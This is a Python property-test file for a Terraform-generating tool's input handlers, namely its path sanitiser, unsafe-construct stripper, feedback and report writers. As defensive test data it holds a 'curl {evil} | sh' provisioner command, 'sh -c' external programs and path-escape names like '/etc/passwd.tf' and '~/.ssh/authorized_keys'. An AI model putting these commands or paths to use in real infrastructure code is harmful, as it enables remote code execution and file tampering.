"""Property tests (hypothesis) for the untrusted-text handlers: the request checks and parser, the
file-name sanitiser, the unsafe-construct stripper, the feedback formatter and the report writer."""

from __future__ import annotations

import json
from pathlib import PurePosixPath

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from infragen.domain import Finding, GateResult
from infragen.errors import BadRequestError
from infragen.feedback import MAX_SECURITY_GROUPS, build_feedback, diagnostic_lines, security_lines
from infragen.files import (
    ALLOWED_SUFFIXES,
    UnsafePathError,
    parse_files,
    sanitise_path,
)
from infragen.offline.parser import parse_request
from infragen.report import build_report, render_markdown
from infragen.requests import check_request
from infragen.safety import strip_unsafe_text
from infragen.tools.hcl import parse_text

FAST = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
words = st.text(st.characters(codec="utf-8"), max_size=300)


@FAST
@given(words)
def test_check_request_accepts_clean_text_or_raises_bad_request(text):
    try:
        clean = check_request(text, max_chars=200)
    except BadRequestError as error:
        assert "\n" not in error.one_line() and error.exit_code == 2
        return
    assert clean and clean == clean.strip() and len(clean) <= 200
    assert not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 for c in clean)
    assert check_request(clean, max_chars=200) == clean  # normalising is idempotent


@FAST
@given(words)
def test_offline_parser_never_crashes_and_counts_are_sane(text):
    spec = parse_request(text)
    assert spec.request == text
    assert 1 <= spec.az_count <= 6
    for component in spec.components:
        assert component.count is None or component.count >= 1


safe_part = st.from_regex(r"[A-Za-z0-9_][A-Za-z0-9_-]{0,12}", fullmatch=True)


@FAST
@given(st.lists(safe_part, min_size=1, max_size=4), st.sampled_from(ALLOWED_SUFFIXES))
def test_sanitiser_keeps_safe_names_relative_and_is_idempotent(parts, suffix):
    name = "/".join(parts) + suffix
    assume(len(name) <= 200)
    safe = sanitise_path(name)
    assert safe.endswith(name)
    assert sanitise_path(safe) == safe
    assert not PurePosixPath(safe).is_absolute() and ".." not in PurePosixPath(safe).parts


@FAST
@given(st.text(max_size=80))
def test_sanitiser_output_never_escapes_whatever_the_input(name):
    try:
        safe = sanitise_path(name)
    except UnsafePathError as error:
        assert error.exit_code == 2
        return
    path = PurePosixPath(safe)
    assert not path.is_absolute() and len(path.parts) >= 2
    assert all(part not in ("", ".", "..") and not part.startswith(".") for part in path.parts)
    assert safe.endswith(ALLOWED_SUFFIXES) and "\\" not in safe and ":" not in safe[:2]


@pytest.mark.parametrize(
    "name",
    [
        "/etc/passwd.tf",
        "../../x.tf",
        "terraform/../../x.tf",
        "C:\\x.tf",
        "terraform/.hidden.tf",
        "run.sh",
        "main.tf.exe",
        "a\x00b.tf",
        "terraform/" + "a" * 250 + ".tf",
        "~/.ssh/authorized_keys",
    ],
)
def test_sanitiser_refuses_escaping_and_bad_names(name):
    with pytest.raises(UnsafePathError):
        sanitise_path(name)


def test_model_file_blocks_are_capped_in_size_and_number():
    huge = "<<<FILE terraform/big.tf>>>\n" + "#" * (256 * 1024 + 1) + "\n<<<END>>>\n"
    with pytest.raises(UnsafePathError, match="larger than"):
        parse_files(huge)
    many = "".join(f"<<<FILE terraform/f{i}.tf>>>\n# {i}\n<<<END>>>\n" for i in range(100))
    assert len(parse_files(many)) == 64


label = st.sampled_from(['"local-exec"', "local-exec", '"remote-exec"', "remote-exec"])
data_label = st.sampled_from(['"external"', "external"])
body = st.text(st.sampled_from('abc =[]"{}\n\\ '), max_size=40)


@FAST
@given(
    st.lists(
        st.tuples(st.booleans(), label, data_label, st.from_regex(r"[a-z]{1,8}", fullmatch=True)),
        min_size=1,
        max_size=4,
    ),
    body,
)
def test_stripped_hcl_holds_no_command_execution(blocks, noise):
    parts = []
    for is_provisioner, prov, data, name in blocks:
        if is_provisioner:
            parts.append(
                f'resource "terraform_data" "{name}" {{\n  provisioner {prov} {{\n'
                f'    command = "curl {{evil}} | sh"\n  }}\n}}\n'
            )
        else:
            parts.append(f'data {data} "{name}" {{\n  program = ["sh", "-c", "{{x}}"]\n}}\n')
    text = "\n".join(parts)
    cleaned, removed = strip_unsafe_text(text)
    assert len(removed) == len(blocks)
    assert (
        "local-exec" not in cleaned and "remote-exec" not in cleaned and "external" not in cleaned
    )
    parsed = parse_text(cleaned)
    assert "external" not in str(parsed.get("data", ""))
    assert strip_unsafe_text(cleaned) == (cleaned, [])
    assert strip_unsafe_text(noise)[0] == noise or "exec" in noise  # plain text is left alone


findings = st.builds(
    Finding,
    gate=st.sampled_from(["validate", "completeness", "security"]),
    rule_id=st.sampled_from(["", "CKV_AWS_1", "CKV_AWS_2", "hcl-parse", "missing-resource"]),
    severity=st.sampled_from(["error", "warning", "info"]),
    message=st.text(min_size=1, max_size=60),
    file=st.none() | st.sampled_from(["terraform/main.tf", "terraform/db.tf"]),
    line=st.none() | st.integers(1, 500),
    resource=st.none() | st.sampled_from(["aws_s3_bucket.a", "aws_db_instance.b"]),
)


@FAST
@given(st.lists(findings, max_size=30))
def test_feedback_lists_each_distinct_diagnostic_once(items):
    lines = diagnostic_lines(items)
    distinct = {(f.severity, f.rule_id, f.message) for f in items}
    assert len(lines) == len(distinct)
    for f in items:
        assert any(f.message in line for line in lines)
    grouped = security_lines(items)
    assert len(grouped) == min(MAX_SECURITY_GROUPS, len({f.rule_id or f.message for f in items}))


@FAST
@given(st.lists(findings, max_size=12), st.integers(1, 5))
def test_feedback_names_every_failed_gate_and_only_those(items, attempt):
    gates = [
        GateResult(
            name=name,
            status="failed" if any(f.gate == name for f in items) else "passed",
            findings=[f for f in items if f.gate == name],
        )
        for name in ("validate", "completeness", "security")
    ]
    text = build_feedback(attempt, gates)
    failed = [g.name for g in gates if g.status == "failed"]
    if not failed:
        assert text == ""
    for name in ("validate", "completeness", "security"):
        assert (f"## {name}" in text) == (name in failed)


json_value = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=20),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
    max_leaves=8,
)
gate = st.fixed_dictionaries(
    {
        "status": st.sampled_from(["passed", "failed", "skipped"]),
        "findings": st.lists(findings.map(lambda f: f.model_dump()), max_size=3),
    },
    optional={
        "engine": st.text(max_size=20),
        "reason": st.text(max_size=40),
        "attempt": st.integers(0, 3),
    },
)
call = st.fixed_dictionaries(
    {
        "node": st.sampled_from(["clarifier", "architect", "ansible"]),
        "backend": st.sampled_from(["groq", "offline"]),
        "model": st.text(max_size=10),
        "total_tokens": st.integers(0, 10_000),
        "prompt_tokens": st.integers(0, 5_000),
        "completion_tokens": st.integers(0, 5_000),
        "cached": st.booleans(),
    }
)
states = st.fixed_dictionaries(
    {},
    optional={
        "request": st.text(max_size=100),
        "files": st.dictionaries(st.text(max_size=20), st.text(max_size=20), max_size=4),
        "gates": st.dictionaries(
            st.sampled_from(["validate", "security", "cost", "ansible", "other"]), gate, max_size=4
        ),
        "calls": st.lists(call, max_size=4),
        "refusal": st.text(max_size=40),
        "repairs": st.lists(st.text(max_size=30), max_size=3),
        "attempt": st.integers(0, 5),
        "inventory": json_value,
        "spec": st.fixed_dictionaries({"assumptions": st.lists(st.text(max_size=20), max_size=2)}),
    },
)


@FAST
@given(
    states,
    st.none() | st.text(min_size=1, max_size=60),
    st.sampled_from([None, "security", "ansible"]),
)
def test_report_is_json_and_markdown_for_any_state(state, error, step):
    report = build_report(
        state, output_dir="out", run_id="abc123", error=error, failed_step=step if error else None
    )
    assert json.loads(json.dumps(report, default=str))["run_id"] == "abc123"
    expected = (
        "error"
        if error
        else "refused"
        if state.get("refusal")
        else (
            "failed"
            if any(g["status"] == "failed" for g in state.get("gates", {}).values())
            else "passed"
        )
    )
    assert report["status"] == expected
    assert report["usage"]["total_tokens"] == sum(c["total_tokens"] for c in state.get("calls", []))
    markdown = render_markdown(report)
    assert "`abc123`" in markdown and report["status"] in markdown
    if error:
        assert f"Error in step `{step}`" in markdown
    assert all(f"`{path}`" in markdown for path in state.get("files", {}))


def test_report_never_holds_the_key_of_a_crash_message():
    from infragen.models.keys import mask

    error = mask("RuntimeError: boom gsk_FAKEKEY_hardening_0123456789abcdef")
    report = build_report(
        {"request": "x"}, output_dir=None, run_id="r", error=error, failed_step="security"
    )
    assert "FAKEKEY" not in json.dumps(report) + render_markdown(report)
